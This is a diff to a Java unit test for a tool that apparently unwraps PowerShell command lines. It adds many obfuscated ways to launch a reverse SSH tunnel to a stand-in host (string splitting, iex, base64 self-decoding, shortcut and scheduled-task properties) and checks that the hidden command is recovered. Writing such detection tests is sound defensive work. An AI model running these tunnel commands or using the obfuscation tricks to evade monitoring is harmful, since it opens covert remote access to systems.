@@ -7,6 +7,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import java.nio.charset.StandardCharsets;
 import java.util.Base64;
+import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -41,6 +42,18 @@ class PowerShellWrapperTest {
         "powershell -c \"while(1){" + SSH + ";sleep 5}\"",
         "powershell -c \"$(" + SSH + ")\"",
         "powershell \u2013c " + SSH,
+        "powershell -c \"$c = '" + SSH + "'; iex $c\"",
+        "powershell -c \"iex ('ss'+'h -N -R 8080:' + 'localhost:80 u@h.example.com')\"",
+        "powershell -c \"iex ('{1} -N -R {0}:localhost:80 u@h.example.com' -f 8080, 'ssh')\"",
+        "powershell -c \"('ssh','-N','-R','8080:localhost:80','u@h.example.com' -join ' ')|iex\"",
+        "powershell -c \"& ('s'+'sh') -N -R 8080:localhost:80 u@h.example.com\"",
+        "powershell -c \"& (-join('s','sh')) -N -R 8080:localhost:80 u@h.example.com\"",
+        "powershell -c \"$p='ssh'; & $p -N -R 8080:localhost:80 u@h.example.com\"",
+        "powershell -c \"$a='-N','-R','8080:localhost:80','u@h.example.com'; Start-Process ssh $a\"",
+        "powershell -c \"$a=@('-N','-R','8080:localhost:80','u@h.example.com'); ssh @a\"",
+        "powershell -c \"$i = New-Object Diagnostics.ProcessStartInfo; $i.FileName='ssh';"
+            + " $i.Arguments = '-N -R 8080:localhost:80 u@h.example.com';"
+            + " [Diagnostics.Process]::Start($i)\"",
       })
   void the_command_comes_out_of_every_form_of_powershell(String line) {
     UnwrappedCommand command = only(line);
@@ -54,6 +67,19 @@ class PowerShellWrapperTest {
   void an_encoded_command_is_decoded(String option) {
     String encoded = Base64.getEncoder().encodeToString(SSH.getBytes(StandardCharsets.UTF_16LE));
     assertThat(only("powershell " + option + " " + encoded).commandLine()).isEqualTo(SSH);
+  }
+
+  @Test
+  void a_script_that_decodes_itself_is_decoded() {
+    String narrow = Base64.getEncoder().encodeToString(SSH.getBytes(StandardCharsets.UTF_8));
+    String wide = Base64.getEncoder().encodeToString(SSH.getBytes(StandardCharsets.UTF_16LE));
+    String decode = "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('";
+    for (String encoded : List.of(narrow, wide)) {
+      String line = "powershell -c \"iex (" + decode + encoded + "')))\"";
+      assertThat(only(line).commandLine()).isEqualTo(SSH);
+      String assigned = "powershell -c \"$c=" + decode + encoded + "')); $c | iex\"";
+      assertThat(only(assigned).commandLine()).isEqualTo(SSH);
+    }
   }
 
   @Test
@@ -172,6 +198,21 @@ class PowerShellWrapperTest {
     assertThat(task.commandLine()).isEqualTo("ssh -R 1080 u@h");
     assertThat(task.name()).isEqualTo("T");
     assertThat(task.runAs()).isEqualTo("NT AUTHORITY\\SYSTEM");
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "$s = $w.CreateShortcut('x.lnk'); $s.TargetPath = 'ssh'; $s.Arguments = '-R 1080 u@h'",
+        "$a = $t.Actions.Create(0); $a.Path='ssh'; $a.Arguments='-R 1080 u@h'",
+      })
+  void a_program_described_by_properties_is_registered(String script) {
+    UnwrappedCommand command =
+        Unwrapped.inside("powershell -c \"" + script + "\"").stream()
+            .filter(UnwrappedCommand::registered)
+            .findFirst()
+            .orElseThrow();
+    assertThat(command.commandLine()).isEqualTo("ssh -R 1080 u@h");
   }
 
   @Test
